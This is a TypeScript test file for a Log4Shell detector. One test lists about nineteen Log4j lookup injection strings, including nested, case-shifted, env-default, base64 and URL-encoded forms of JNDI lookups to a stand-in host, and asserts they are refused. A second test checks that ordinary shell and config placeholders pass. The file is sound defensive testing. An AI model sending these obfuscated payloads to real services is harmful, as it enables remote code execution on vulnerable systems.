import assert from "node:assert/strict";
import { test } from "node:test";

import { refusalPoints } from "../detector.ts";
import { pointsOf } from "../points.fixture.ts";
import { log4shellDetector } from "./log4shell.ts";

test("a lookup that becomes a remote name is refused however it is nested", () => {
  for (const value of [
    "${jndi:ldap://x.example/a}",
    "x ${JNDI:rmi://x.example} y",
    "${jndi:ldap://x.example/a",
    "${${lower:J}ndi:ldap://x.example}",
    "${j${upper:n}di:dns://x.example}",
    "${${lower:${lower:j}}ndi:ldap://x.example}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example}",
    "${${env:A:-j}nd${env:B:-i}${env:C:-:}ldap://x.example}",
    "${${env:A:-${lower:J}}ndi:ldap://x.example}",
    "${jnd${sys:a:-i}:ldap://x.example}",
    "${${date:'j'}${date:'n'}di:ldap://x.example}",
    "${jnd${upper:\u0131}:ldap://x.example}",
    "${a${b${jndi:ldap://x.example}}}",
    "${j${}ndi:ldap://x.example}",
    "${${${:-l}${:-o}wer:j}ndi:ldap://x.example}",
    "${${base64:amRuaQ==}:ldap://x.example}",
    "${script:javascript:1+1}",
    "${url:UTF-8:http://x.example}",
    "$%7Bjndi:ldap://x.example}",
  ])
    assert.ok(pointsOf(log4shellDetector, value, "header") >= refusalPoints, value);
});

test("placeholders and defaults of shells and configs are not", () => {
  for (const value of [
    "${HOME}",
    "${name:-world}",
    "${env:PATH}",
    "${user.id}",
    "$50 {jndi: no}",
    "jndi:ldap://x.example",
    "`${a}:${b}`",
    "${",
    "${{ github.ref }}",
  ])
    assert.ok(pointsOf(log4shellDetector, value) < refusalPoints, value);
});
